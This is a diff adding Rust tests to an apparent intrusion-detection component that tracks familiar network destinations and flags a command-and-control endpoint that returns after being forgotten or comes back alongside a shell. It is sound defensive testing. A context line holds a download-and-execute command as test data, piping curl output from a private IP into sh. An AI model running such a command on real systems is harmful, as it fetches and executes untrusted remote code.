@@ -622,3 +622,45 @@ fn a_shape_does_not_depend_on_how_many_digits_vary() {
         command_shape("sh -c curl -sS http://10.213.5.9:8080/t/a.pdf | sh"),
     );
 }
+
+#[test]
+fn what_one_quiet_invocation_taught_is_forgotten_unless_it_comes_back() {
+    let c2 = endpoint("10.7.7.7:443");
+    let partner = endpoint("10.1.1.1:443");
+    let mut f = Familiar::default();
+    // Invocation 1 contacts both, raises nothing and is learned at once.
+    f.note_invocation(&[c2.clone(), partner.clone()], &[]);
+    f.learn(&[c2.clone(), partner.clone()]);
+    assert!(f.knows_destination(&"10.7.7.7:443".parse().unwrap()));
+    // The partner comes back now and then; the C2 does not, for FORGET_AFTER invocations.
+    for n in 2..=FORGET_AFTER + 2 {
+        let seen = if n % 10 == 0 {
+            vec![partner.clone()]
+        } else {
+            Vec::new()
+        };
+        f.note_invocation(&seen, &[]);
+    }
+    assert!(!f.knows_destination(&"10.7.7.7:443".parse().unwrap()));
+    assert!(f.knows_destination(&"10.1.1.1:443".parse().unwrap()));
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &c2);
+    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
+}
+
+#[test]
+fn what_one_quiet_invocation_taught_and_an_attack_brings_back_is_tainted() {
+    let c2 = endpoint("10.7.7.7:443");
+    let mut f = Familiar::default();
+    f.note_invocation(std::slice::from_ref(&c2), &[]);
+    f.learn(std::slice::from_ref(&c2));
+    let shell = process(30, "/bin/sh", "sh -c id");
+    f.note_invocation(&[shell.clone(), c2.clone()], &[shell]);
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &c2);
+    assert!(
+        fired.contains(&Indicator::ReturningDestination),
+        "{fired:?}"
+    );
+    assert!(fired.contains(&Indicator::UnknownDestination), "{fired:?}");
+}
